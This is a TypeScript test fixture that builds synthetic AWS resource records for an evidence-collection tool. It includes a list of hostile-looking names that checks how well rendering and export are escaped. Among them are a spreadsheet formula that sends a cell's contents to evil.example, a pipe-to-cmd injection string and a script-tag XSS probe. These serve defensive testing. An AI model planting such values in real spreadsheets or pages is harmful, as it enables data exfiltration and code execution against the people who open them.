import { jsonDigest, sha256 } from '../../src/evidence/digest.ts'
import type { FieldGap, Resource } from '../../src/evidence/item.ts'
import type { JsonObject } from '../../src/evidence/json.ts'

/** Names that break careless renderers, spreadsheets and parsers. */
export const NAMES = [
  'acme-logs',
  '監査ログの保管庫',
  'سجل-التدقيق',
  'rocket-🚀-data',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3|cmd',
  '@SUM(1,2)',
  '\tleading tab',
  'quote " comma , semi ; colon',
  'line\nbreak',
  '👩‍👩‍👧‍👦 family',
  'e\u0301 combining, ﬁ ligature',
  '<script>alert(1)</script>',
] as const

export interface TypeSpec {
  readonly id: string
  readonly title: string
  readonly reach: 'account' | 'region'
  readonly action: string
  readonly operation: string
  readonly arn: (account: string, region: string, index: number) => string
  /** How many of a hundred resources are of this type. */
  readonly share: number
}

const pad = (index: number): string => index.toString().padStart(8, '0')

/** Sorted by id, as items are. */
export const TYPES: readonly TypeSpec[] = [
  {
    id: 'aws.ec2.instance',
    title: 'EC2 instances',
    reach: 'region',
    action: 'ec2:DescribeInstances',
    operation: 'DescribeInstances',
    arn: (account, region, index) => `arn:aws:ec2:${region}:${account}:instance/i-${pad(index)}`,
    share: 50,
  },
  {
    id: 'aws.iam.user',
    title: 'IAM users',
    reach: 'account',
    action: 'iam:ListUsers',
    operation: 'ListUsers',
    arn: (account, _region, index) => `arn:aws:iam::${account}:user/u-${pad(index)}`,
    share: 10,
  },
  {
    id: 'aws.kms.key',
    title: 'KMS keys',
    reach: 'region',
    action: 'kms:ListKeys',
    operation: 'ListKeys',
    arn: (account, region, index) => `arn:aws:kms:${region}:${account}:key/${pad(index)}`,
    share: 10,
  },
  {
    id: 'aws.rds.instance',
    title: 'RDS instances',
    reach: 'region',
    action: 'rds:DescribeDBInstances',
    operation: 'DescribeDBInstances',
    arn: (account, region, index) => `arn:aws:rds:${region}:${account}:db:db-${pad(index)}`,
    share: 10,
  },
  {
    id: 'aws.s3.bucket',
    title: 'S3 buckets and how they are protected',
    reach: 'account',
    action: 's3:ListAllMyBuckets',
    operation: 'ListBuckets',
    arn: (_account, _region, index) => `arn:aws:s3:::bucket-${pad(index)}`,
    share: 20,
  },
]

/** Same input, same number in 0 … n-1. */
export function pick(n: number, ...of: (string | number)[]): number {
  return sha256(of.join('\0')).readUInt32BE(0) % n
}

/** Every 13th resource has a field that was not read. */
export const hasGap = (index: number): boolean => index % 13 === 5

const statement = (n: number): JsonObject => ({
  Action: ['s3:GetObject', 's3:PutObject'],
  Effect: n % 2 ? 'Allow' : 'Deny',
  Principal: { AWS: `arn:aws:iam::123456789012:role/app-${n}` },
  Resource: '*',
})

/** The `index`th resource of a type; `home` is the region it lives in. */
export function makeResource(type: TypeSpec, account: string, home: string, index: number): Resource {
  const id = type.arn(account, home, index)
  const name = NAMES[index % NAMES.length] ?? 'unnamed'
  const gap: FieldGap = {
    field: 'Encryption',
    action: `${type.action.split(':')[0]}:GetEncryption`,
    reason: 'denied',
    detail: 'AccessDenied',
  }
  const settings: JsonObject = {
    Name: name,
    Versioning: { Status: index % 3 ? 'Enabled' : 'Suspended' },
    Policy: { Version: '2012-10-17', Statement: [statement(pick(9, id)), statement(index % 4)] },
    Size: pick(1_000_000, id, 'size') / 8,
    Tags: [
      { Key: 'owner', Value: NAMES[pick(NAMES.length, id, 'owner')] ?? '' },
      { Key: 'Ünïcode', Value: '値' },
    ],
  }
  if (index % 5 === 0) settings.Environment = { Password: { $redacted: 'test-secret' } }
  if (!hasGap(index)) settings.Encryption = index % 4 ? { SSEAlgorithm: 'aws:kms' } : null
  const observed: JsonObject = { LastUsed: `2026-09-${(1 + (index % 28)).toString().padStart(2, '0')}T00:00:00.000Z` }
  return {
    id,
    name,
    region: home,
    digest: jsonDigest(settings),
    settings,
    ...(index % 2 ? { observedDigest: jsonDigest(observed), observed } : {}),
    gaps: hasGap(index) ? [gap] : [],
  }
}
